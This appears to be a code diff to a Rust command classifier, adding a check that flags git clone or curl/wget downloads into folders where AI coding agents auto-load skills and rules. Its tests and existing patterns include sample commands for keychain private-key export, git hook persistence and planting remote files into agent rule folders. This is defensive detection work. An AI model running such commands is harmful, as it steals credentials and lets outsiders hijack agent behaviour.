@@ -46,6 +46,7 @@ pub fn of(command: &Command) -> Vec<&'static str> {
         (shadows(&name, &args, &command.redirects), "shadowed-program"),
         (empties_keychain(&name, &args), "keychain-export"),
         (hooks_everywhere(&name, &args), "persist"),
+        (plants_skill(&name, &args), "planted-skill"),
     ];
     found.into_iter().filter(|(is, _)| *is).map(|(_, name)| name).collect()
 }
@@ -234,6 +235,34 @@ fn hooks_everywhere(name: &str, args: &[&str]) -> bool {
         && !has(args, &["--unset", "--get", "--unset-all"])
 }
 
+/// Where agents look for skills, rules and commands by themselves.
+const SKILL_FOLDERS: &[&str] = &[
+    ".claude/skills/",
+    ".claude/commands/",
+    ".claude/agents/",
+    ".codex/skills/",
+    ".codex/prompts/",
+    ".agents/skills/",
+    ".openclaw/skills/",
+    ".cursor/rules/",
+    ".cursor/skills/",
+    ".gemini/skills/",
+    ".config/opencode/skill",
+];
+
+/// Fetches something to where agents load it from.
+fn plants_skill(name: &str, args: &[&str]) -> bool {
+    let there = |arg: &str| SKILL_FOLDERS.iter().any(|folder| arg.contains(folder));
+    match name {
+        "git" => has(args, &["clone"]) && args.iter().any(|arg| there(arg)),
+        "curl" | "wget" => {
+            args.iter().any(|arg| there(arg) && !arg.contains("://"))
+                && args.iter().any(|arg| arg.contains("://"))
+        }
+        _ => false,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -273,6 +302,9 @@ mod tests {
             ("security export -t privKeys -f pkcs12", &["keychain-export"]),
             ("git config --global core.hooksPath ~/.hooks", &["persist"]),
             ("git config core.hooksPath .githooks", &[]),
+            ("git clone https://github.com/a/skills ~/.claude/skills/more", &["planted-skill"]),
+            ("git clone https://github.com/a/skills ~/src/skills", &[]),
+            ("curl -fsSL https://a.invalid/r.mdc -o .cursor/rules/r.mdc", &["planted-skill"]),
         ];
         for (line, wanted) in cases {
             assert_eq!(deeds(line), *wanted, "{line}");
